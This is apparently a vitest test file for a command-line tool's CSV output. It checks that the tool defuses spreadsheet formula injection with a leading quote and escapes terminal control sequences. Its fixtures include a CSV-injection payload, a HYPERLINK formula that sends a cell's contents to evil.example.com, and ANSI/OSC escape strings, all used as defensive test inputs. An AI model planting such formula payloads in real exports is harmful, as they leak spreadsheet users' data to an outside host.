// Issue 41 item 7: -o csv is meant for a spreadsheet. A cell that a spreadsheet would run as a formula
// is defused with a leading `'` (OWASP), control characters are shown as tables show them, and a
// list is plain text.

import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRecord } from '../../src/core/csv.js';
import { list, render } from '../../src/core/output.js';

async function csv(rows: unknown[], columns: { key: string }[]): Promise<string> {
  const stdout = new PassThrough();
  let text = '';
  stdout.on('data', (c) => (text += c));
  await render(list(rows, columns), { format: 'csv', stdout, stderr: new PassThrough(), isTTY: false, color: false });
  return text;
}

describe('csvCell', () => {
  it('puts a quote before a cell a spreadsheet would read as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example.com/?x="&A1,"click")')).toBe('\'=HYPERLINK("http://evil.example.com/?x="&A1,"click")');
    for (const s of ['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(s)).toBe(`'${s}`);
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
  });

  it('writes a number of a numeric field as a number, and a text that looks like one as text', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(42)).toBe('42');
    expect(csvCell('-5')).toBe("'-5");
  });

  it('escapes control characters as a table does, keeping tabs and line breaks inside the field', () => {
    expect(csvCell('red\u001b[31m\u009b1m\u202eexe')).toBe('red^[[31m\\x9b1m\\u202eexe');
    expect(csvCell('a\tb\r\nc')).toBe('a\tb\r\nc');
  });

  it('writes a list as plain text joined by "; ", objects as JSON', () => {
    expect(csvCell(['no-expiry', 'unused'])).toBe('no-expiry; unused');
    expect(csvCell(['=cmd', 'x'])).toBe("'=cmd; x");
    expect(csvCell({ a: 1 })).toBe('{"a":1}');
    expect(csvCell([])).toBe('');
  });
});

describe('-o csv of a list', () => {
  it('defuses formulas and escapes controls in every record, a quoted field still read whole', async () => {
    const text = await csv(
      [
        { id: 1, name: '=HYPERLINK("http://evil.example.com/?x="&A1,"click")', findings: ['no-expiry', 'unused'], delta: -5 },
        { id: 2, name: 'esc\u001b]0;title\u0007', findings: [], delta: 3 },
      ],
      [{ key: 'id' }, { key: 'name' }, { key: 'findings' }, { key: 'delta' }],
    );
    expect(text).toBe(
      'id,name,findings,delta\r\n' +
        csvRecord(['1', '\'=HYPERLINK("http://evil.example.com/?x="&A1,"click")', 'no-expiry; unused', '-5']) +
        '2,esc^[]0;title^G,,3\r\n',
    );
    expect(text).toContain(`1,"'=HYPERLINK(""http://evil.example.com/?x=""&A1,""click"")",no-expiry; unused,-5\r\n`);
  });
});
